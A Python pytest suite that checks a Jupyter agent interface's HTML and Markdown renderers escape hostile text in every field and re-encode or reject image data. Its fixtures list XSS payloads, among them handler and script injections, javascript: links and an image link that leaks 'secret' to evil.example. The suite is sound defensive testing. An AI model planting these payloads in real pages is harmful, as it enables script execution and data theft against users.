"""Every renderer, fed hostile strings in every field, makes exactly the markup it makes for
harmless strings of the same shape: no tag, attribute, handler or link survives from the
text. Each field gets its own payload (the family of markup breaks: closing an attribute,
closing the element, a handler, a script, a comment, a javascript: link, Markdown links and
images), and its twin with the markup characters replaced by letters (same length, same
lines) must give the same elements and attributes in the same order.

The output is parsed with an HTML parser, then also checked against the layer's own sets:
tags, attribute names, link targets (http(s) only), image sources (decodable images) and
styles (no ``url(``).
"""

from __future__ import annotations

import asyncio
import base64
import io
import re
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from nb_agent.folder_trust import FolderTrust
from nb_agent.jupyter import html as layer
from nb_agent.jupyter.live.edits_card import records_bundle
from nb_agent.jupyter.live.run import EditRecord
from nb_agent.jupyter.static_render import static_bundle
from nb_agent.jupyter.view.background_card import background_bundle
from nb_agent.jupyter.view.file_edits_card import FileEntry
from nb_agent.jupyter.view.file_edits_card import static_bundle as file_edits_bundle
from nb_agent.jupyter.view.markdown_stream import thinking_html
from nb_agent.jupyter.view.run_state import Approval, Notice, RunState, TextBlock, ToolCall
from nb_agent.jupyter.view.status_line import StatusSnapshot, status_html
from nb_agent.jupyter.view.subagent import SubagentView
from nb_agent.jupyter.view.tool_card import card_html, notice_html
from nb_agent.jupyter.view.trust_card import answered_text, question_text
from nb_agent.testing.images import png_base64
from nb_agent.tools.files.change_preview import CellChange, CellGlimpse, cell_change, file_change

ATTACKS = [
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(2)>",
    "</pre></details></div></li></ul><script>alert(3)</script>",
    '" onmouseover="alert(4)" x="',
    "<!-- <a href=javascript:alert(5)>x</a> -->",
    "[click](javascript:alert(6)) ![pixel](https://evil.example/p.png?d=secret)",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "&lt;b&gt;&#60;i&#62; `<b>code</b>`",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<a href='https://ok.example' onclick=alert(8)>link</a>",
]


def payload(field: str, multiline: bool = False) -> str:
    """A hostile value for ``field``: every attack, the field's name so a leak says where."""
    sep = "\n" if multiline else " "
    return f"{field}:{sep}" + sep.join(ATTACKS)


def harmless(value: str) -> str:
    """``value`` with each markup character replaced by a letter: same length and lines."""
    return value.translate(str.maketrans({"<": "L", ">": "G", '"': "Q", "'": "A", "&": "E", "=": "S"}))


class Structure(HTMLParser):
    """Elements and attributes in document order; comments and declarations too."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.events: list[tuple[Any, ...]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.events.append(("start", tag, tuple(name for name, _ in attrs)))
        self.attrs = attrs
        for name, value in attrs:
            _check_attribute(tag, name, value)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        self.events.append(("end", tag))

    def handle_comment(self, data: str) -> None:
        self.events.append(("comment",))

    def handle_decl(self, decl: str) -> None:
        self.events.append(("decl",))

    def handle_pi(self, data: str) -> None:
        self.events.append(("pi",))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _check_attribute(tag: str, name: str, value: str | None) -> None:
    assert tag in layer.TAGS, tag
    assert name in layer.ATTRIBUTES | layer.MARKDOWN_ATTRIBUTES, (tag, name)
    assert not name.startswith("on")
    if name == "href":
        assert value is not None and layer.web_url(value) is not None, value
    if name == "src":
        assert tag == "img" and value is not None and re.fullmatch(r"data:image/(png|jpeg);base64,[A-Za-z0-9+/]+=*", value), value
    if name == "style":
        assert value is not None and "url(" not in value.lower() and "expression(" not in value.lower(), value


def structure(markup: str) -> Structure:
    parser = Structure()
    parser.feed(str(markup))
    parser.close()
    return parser


# --- the run, every field hostile ---------------------------------------------------------------


def _subagent(make: Any, *, finished: bool, background: bool = False) -> SubagentView:
    view = SubagentView(
        agent_id="a1", agent_type=make("agent_type"), description=make("subagent description"), background=background, state=RunState()
    )
    view.state.items.append(ToolCall(tool_use_id="s1", name="Read", input={"file_path": make("subagent read path")}, input_complete=True, status="done"))
    if finished:
        view.status = "failed"
        view.error = make("subagent error", True)
        view.final_text = make("subagent answer", True)
        view.ended_at = view.started_at + 1
    else:
        text = TextBlock(kind="text")
        text.stream.append(make("subagent latest text", True))
        view.state.items.append(text)
    return view


def _cards(make: Any, image: tuple[str, str]) -> list[ToolCall]:
    def call(name: str, status: str = "done", **fields: Any) -> ToolCall:
        return ToolCall(tool_use_id=f"t-{name}-{len(fields)}", name=name, input_complete=True, status=status, **fields)  # type: ignore[arg-type]

    return [
        call("Bash", input={"command": make("command", True), "description": make("description")}, result_text=make("bash output", True)),
        call("Bash", "running", input={"command": make("one-line command")}, progress={"output_tail": make("live output", True)}, started_at=1.0),
        call("ExecuteCode", "running", input={"code": make("running code")}, progress={"output_tail": make("compute output", True), "compute": make("compute line")}, started_at=1.0),
        call("Read", input={"file_path": make("path")}, result_text=make("file text", True)),
        call("ExecuteCode", input={"code": make("code", True)}, result_text=make("code output", True), result_images=[image]),
        call("NotebookEdit", input={"cell_id": make("cell id"), "edit_mode": make("edit mode"), "new_source": make("new source", True)}),
        call("Edit", input={"file_path": make("edit path")}, structured={"diff": "--- a\n+++ b\n@@ -1 +1 @@\n-" + make("removed line") + "\n+" + make("added line")}),
        call(make("mcp__server__tool name"), "error", input={"query": make("mcp argument")}, result_text=make("mcp error", True), result_images=[image], is_error=True),
        call("Write", "waiting for approval", input={"file_path": make("asked path")}, approval=Approval(message=make("permission message"), suggested_rule=make("suggested rule")), agent=make("asking agent")),
        call("Bash", "denied", input={"command": make("denied command")}, approval=Approval(message="m", suggested_rule=None, answer="deny", feedback=make("deny feedback"))),
        call("Bash", "done", input={"command": make("always command")}, approval=Approval(message="m", suggested_rule=make("added rule"), answer="always_allow")),
        call("TodoWrite", input={"todos": [{"content": make("todo done"), "status": "completed"}, {"content": make("todo now"), "activeForm": make("todo active form"), "status": "in_progress"}, {"content": make("todo later"), "status": make("todo status")}]}),
        call(
            "AskUserQuestion",
            input={"questions": [{"header": make("question header"), "question": make("question text"), "options": [{"label": make("option label"), "description": make("option description")}]}]},
            structured={"answers": {make("question text"): make("answer")}},
        ),
        call("AskUserQuestion", "waiting for approval", input={"questions": [{"header": make("header 2"), "question": make("question 2"), "options": []}]}, approval=Approval(message="m", suggested_rule=None)),
        call("ExitPlanMode", "denied", input={"plan": make("plan text", True)}, approval=Approval(message="m", suggested_rule=None, answer="deny", feedback=make("keep planning feedback"))),
        call("ExitPlanMode", "done", input={"plan": make("approved plan", True)}, structured={"mode": make("plan mode")}),
        call("WebSearch", input={"query": make("search query")}, structured={"links": [{"title": make("result title"), "url": "https://ok.example/" + make("url path").replace(" ", "_")}, {"title": make("bad link"), "url": make("javascript url")}]}),
        call("Agent", input={"description": make("agent call description"), "prompt": make("agent prompt")}, subagent=_subagent(make, finished=False)),
        call("Agent", "interrupted", input={"description": make("finished agent call")}, subagent=_subagent(make, finished=True)),
        *_change_cards(make, call),
    ]


def _change_cards(make: Any, call: Any) -> list[ToolCall]:
    """Approval cards that show what the call would change (diffs, cells, a new file's head)."""
    waiting = {"status": "waiting for approval", "approval": Approval(message="m", suggested_rule=None)}
    above = CellGlimpse(cell_id=make("above id"), cell_type=make("above type"), source=make("neighbour above", True))
    below = CellGlimpse(cell_id=make("below id"), cell_type="code", source=make("neighbour below", True))
    changes = [
        cell_change(op="replace", notebook=make("notebook"), cell_id=make("changed cell"), cell_type="markdown", old_type="code", before=make("cell before", True), after=make("cell after", True)),
        cell_change(op="insert", notebook="n", cell_id=None, cell_type=make("new type"), after=make("inserted source", True), above=above, below=below),
        cell_change(op="delete", notebook="n", cell_id=make("deleted cell"), cell_type="code", before=make("deleted source", True)),
        cell_change(op="move", notebook="n", cell_id=make("moved cell"), cell_type="code", before=make("moved source", True), above=None, below=below),
        file_change(make("change path"), None, make("new file content", True)),
        file_change(make("diff path"), make("file before", True), make("file after", True) + "\n" * 40),
    ]
    return [call("NotebookEdit" if isinstance(c, CellChange) else "Write", change=c, input={"x": str(i)}, **waiting) for i, c in enumerate(changes)]


def run_state(make: Any, image: tuple[str, str]) -> RunState:
    state = RunState(model=make("model"))
    answer = TextBlock(kind="text")
    answer.stream.append(make("answer text", True))
    answer.stream.finish()
    thinking = TextBlock(kind="thinking")
    thinking.stream.append(make("thinking", True))
    state.items += [answer, thinking, *_cards(make, image)]
    state.items += [Notice(level="error", text=make("error notice", True)), Notice(level="warning", text=make("warning notice")), Notice(level="info", text=make("info notice"))]
    state.interrupted = True
    return state


def renderings(make: Any, image: tuple[str, str]) -> dict[str, str]:
    """Every renderer's markup for a run whose every field came from ``make``."""
    state = run_state(make, image)
    out: dict[str, str] = {}
    for index, item in enumerate(state.items):
        if isinstance(item, ToolCall):
            out[f"card {index} {item.name[:12]}"] = card_html(item, now=2.0)
        elif isinstance(item, Notice):
            out[f"notice {index}"] = notice_html(item.level, item.text)
        elif item.kind == "thinking":
            out["thinking"] = thinking_html(item.text)
        else:
            out["answer"] = item.stream.html()
    out["static html"] = static_bundle(state)["text/html"]
    out["status line"] = status_html(
        StatusSnapshot(model=make("model"), turn=2, input_tokens=5, output_tokens=3, context_tokens=9, permission_mode=make("mode"), todo=make("todo summary"), phase=make("phase"))
    )
    for finished in (False, True):
        view = _subagent(make, finished=finished, background=True)
        out[f"background card {'finished' if finished else 'live'}"] = background_bundle(view)["text/html"]
    records = [
        EditRecord(edit_id=make("edit id"), summary=make("edit summary"), cell_id=make("edited cell"), ops=[], inverse=[], kind="replace", preview=make("edit preview", True), status="applied",
                   change=cell_change(op="replace", notebook="n", cell_id=make("edited cell"), cell_type="code", before=make("edit before", True), after=make("edit after", True))),
        EditRecord(edit_id="e2", summary=make("refused edit"), cell_id=None, ops=[], inverse=[], preview="", status=make("edit status"), error=make("edit error")),  # type: ignore[arg-type]
    ]
    bundle = records_bundle(records, run_id=make("run id"), notebook_path=make("notebook path"))
    assert bundle is not None
    out["edits card"] = bundle["text/html"]
    files = [  # the file-mode card: a file the run changed, and one it deleted
        FileEntry(edit=SimpleNamespace(path=make("edited file path"), after=b"x"), change=file_change(make("file card path"), make("file before", True), make("file after", True)), status=make("file card status")),  # type: ignore[arg-type]
        FileEntry(edit=SimpleNamespace(path=make("deleted file path"), after=None), change=None),  # type: ignore[arg-type]
    ]
    out["file edits card"] = file_edits_bundle(files)["text/html"]
    trust = FolderTrust(folder=Path(make("folder")), state="unanswered", reasons=(make("trust reason"), make("second reason")))  # type: ignore[arg-type]
    out["trust question"] = notice_html("warning", question_text(trust))
    out["trust answered"] = notice_html("info", answered_text(trust, False, by=make("who")))
    out.update(_form_markup(make))
    return out


def _form_markup(make: Any) -> dict[str, str]:
    """The HTML the approval row, the question form and the plan form put in their widgets."""
    from nb_agent.jupyter.view.agent_view import _shared_widgets
    from nb_agent.jupyter.view.approval import ApprovalRow
    from nb_agent.jupyter.view.plan_form import PlanForm
    from nb_agent.jupyter.view.question_form import QuestionForm

    shared, _ = _shared_widgets()
    loop = asyncio.new_event_loop()
    row = ApprovalRow(suggested_rule=make("row rule"), on_answer=lambda *a: None, shared=shared, loop=loop)
    questions = [
        {"header": make("form header"), "question": make("form question"), "multiSelect": False, "options": [{"label": make("form label"), "description": make("form option description")}]},
        {"header": make("multi header"), "question": make("multi question"), "multiSelect": True, "options": [{"label": make("multi label"), "description": make("multi description")}]},
    ]
    form = QuestionForm(questions=questions, on_answer=lambda *a: None, shared=shared, loop=loop)
    loop.run_until_complete(form._submitted())  # nothing chosen: the form says so in its message widget
    loop.close()
    plan = PlanForm(plan=make("form plan", True), on_answer=lambda *a: None, shared=shared, loop=loop)
    out = {"approval rule": row.rule.value, "plan form": plan.plan.value, "question message": form.message.value}
    for index, question in enumerate(form.questions):
        out[f"question title {index}"] = question.title.value
    for widget in (row, form, plan):
        for part in widget.widgets:
            part.close()
    return out


# --- the checks ------------------------------------------------------------------------------------


IMAGE = ("image/png", png_base64(3, 2))
HOSTILE_IMAGE = ('image/png" onerror="alert(9)', png_base64(3, 2) + '" onerror="alert(10)')


@pytest.fixture(scope="module")
def rendered() -> tuple[dict[str, str], dict[str, str]]:
    return renderings(payload, IMAGE), renderings(lambda f, m=False: harmless(payload(f, m)), IMAGE)


def test_hostile_text_makes_the_same_markup_as_harmless_text(rendered):
    hostile, twin = rendered
    assert hostile.keys() == twin.keys()
    for name in hostile:
        assert structure(hostile[name]).events == structure(twin[name]).events, name


def test_hostile_image_data_is_never_an_img():
    markup = renderings(payload, HOSTILE_IMAGE)
    assert all("<img" not in str(m) for m in markup.values())
    assert "could not be read" in str(markup["static html"])


def test_every_field_reaches_the_page_as_text(rendered):
    """The payloads are there, shown as text (the renderers did not just drop them)."""
    hostile, _ = rendered
    shown = "\n".join("".join(structure(markup).text) for markup in hostile.values())
    missing: list[str] = []
    for field in ("command", "description", "path", "bash output", "live output", "code", "new source", "removed line", "mcp error",
                  "permission message", "added rule", "asking agent", "deny feedback", "todo done", "todo later", "todo active form", "question header",
                  "question text", "answer", "plan text", "keep planning feedback", "result title",
                  "bad link", "subagent description", "agent_type", "subagent error", "subagent answer", "subagent latest text", "model",
                  "todo summary", "edit summary", "edit preview", "folder", "trust reason", "row rule", "form header", "form question",
                  "form option description", "multi description", "form plan", "error notice", "thinking", "answer text",
                  "above id", "neighbour above", "neighbour below", "changed cell", "cell before", "cell after", "inserted source", "deleted cell",
                  "deleted source", "moved source", "change path", "new file content", "diff path", "file before", "file after", "edit before", "edit after",
                  "compute line", "compute output", "edited file path", "deleted file path", "file card status"):  # fmt: skip
        missing.extend([field] if f"{field}:" not in shown else [])
    assert missing == []
    assert '"><img src=x onerror=alert(1)>' in shown and "<script>alert(3)</script>" in shown


def test_no_link_but_http_and_no_image_but_re_encoded_ones(rendered):
    hostile, twin = rendered
    for markup in hostile.values():
        for href in re.findall(r'href="([^"]*)"', str(markup)):
            assert href.startswith("https://"), href
    images = [src for markup in twin.values() for src in re.findall(r'src="([^"]*)"', str(markup))]
    assert images and all(src.startswith("data:image/png;base64,") for src in images)


def test_the_markdown_form_has_no_raw_html():
    from markdown_it import MarkdownIt

    state = run_state(payload, HOSTILE_IMAGE)
    forms = {"static": static_bundle(state)["text/markdown"], "background": background_bundle(_subagent(payload, finished=True, background=True))["text/markdown"]}
    parser = MarkdownIt("commonmark", {"html": True})
    for name, source in forms.items():
        tokens = parser.parse(source)
        raw = [t for t in tokens if t.type == "html_block"] + [c for t in tokens for c in t.children or [] if c.type == "html_inline"]
        assert raw == [], (name, [t.content for t in raw])
        assert "onerror=alert(1)" in source  # still there, as text


# --- images -----------------------------------------------------------------------------------------


def _png_with_trailer(trailer: bytes) -> str:
    return base64.b64encode(base64.b64decode(png_base64(2, 2)) + trailer).decode()


@pytest.mark.parametrize(
    "media_type,data",
    [
        ("image/png", 'AAAA" onerror="alert(1)'),
        ("image/png", "not base64 at all <script>"),
        ("image/svg+xml", base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>").decode()),
        ("text/html", base64.b64encode(b"<script>alert(1)</script>").decode()),
        ("image/png", base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"<img src=x onerror=alert(1)>").decode()),
        ("image/gif", ""),
    ],
)
def test_data_that_is_not_an_image_is_never_an_img(media_type, data):
    assert layer.image_src(media_type, data) is None
    card = ToolCall(tool_use_id="t", name="mcp__x__y", input_complete=True, status="done", result_images=[(media_type, data)])
    markup = str(card_html(card))
    assert "<img" not in markup and "could not be read" in markup


def test_an_image_is_shown_as_this_process_wrote_it():
    trailer = b'" onerror="alert(1)"<script>alert(2)</script>'
    src = layer.image_src('image/jpeg" onload="x', _png_with_trailer(trailer))
    assert src is not None and src.media_type == "image/png"
    written = base64.b64decode(src.value.split(",", 1)[1])
    assert trailer not in written and b"script" not in written
    from PIL import Image

    with Image.open(io.BytesIO(written)) as image:
        assert image.size == (2, 2)


def test_a_huge_image_is_not_decoded():
    from PIL import Image

    out = io.BytesIO()
    Image.new("1", (8000, 8000)).save(out, format="PNG")  # 64 M pixels in a few kilobytes
    assert layer.image_src("image/png", base64.b64encode(out.getvalue()).decode()) is None
